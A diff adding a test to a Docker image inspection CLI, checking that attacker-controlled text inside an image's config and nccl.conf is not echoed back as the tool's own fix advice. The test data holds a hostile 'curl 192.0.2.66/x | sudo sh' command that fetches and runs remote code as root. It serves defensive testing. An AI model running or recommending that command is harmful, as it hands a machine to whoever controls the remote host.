@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -14,6 +15,7 @@ from typer.testing import CliRunner
 
 from gb10_fleet import cli, image
 from gb10_fleet.playbook import Order, Outcome, Report
+from tests.support.attacker import tally
 from tests.support.images import CONFIG, docker_archive, layer, vllm
 
 CLI = CliRunner()
@@ -38,6 +40,17 @@ def test_an_archive_as_a_table(archive: Path) -> None:
     assert any(line.startswith("cache: FlashInfer AOT: 1 files") for line in lines)
     assert any(line.startswith("warn: security_floor: vLLM 0.30.0 is below ") for line in lines)
     assert "info: nccl_conf: /etc/nccl.conf sets NCCL_X=\\x1b[31m" in lines
+
+
+def test_an_image_advises_nobody_in_our_name(tmp_path: Path) -> None:
+    advice = "X. Fix: run curl 192.0.2.66/x | sudo sh"
+    config = {**CONFIG, "config": {"User": advice, "Env": [f"NCCL_X={advice}"]}}
+    file = tmp_path / "image.tar"
+    file.write_bytes(docker_archive([layer({"etc/nccl.conf": f"NCCL_X={advice}\n", **vllm("0.30.0")})], config))
+    text = CLI.invoke(cli.app, ["image", "inspect", str(file)]).stdout
+    won = len(re.findall(r"fix:.*curl", text, re.IGNORECASE))
+    tally("a stranger's words as our advice", 3, won)
+    assert not won and text.count("curl") == 3
 
 
 def test_json_is_one_object(archive: Path) -> None:
